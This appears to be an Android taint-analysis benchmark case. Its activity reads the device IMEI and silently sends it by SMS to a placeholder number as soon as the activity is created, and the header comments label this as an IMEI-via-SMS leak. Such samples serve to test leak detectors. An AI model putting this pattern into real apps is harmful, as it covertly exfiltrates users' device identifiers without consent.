// about       An array of two strings; the place with the value is sent.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String[] parts = new String[2];
    parts[0] = phone.getDeviceId();
    parts[1] = "hello";
    // The place with the value.
    String text = parts[0];
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
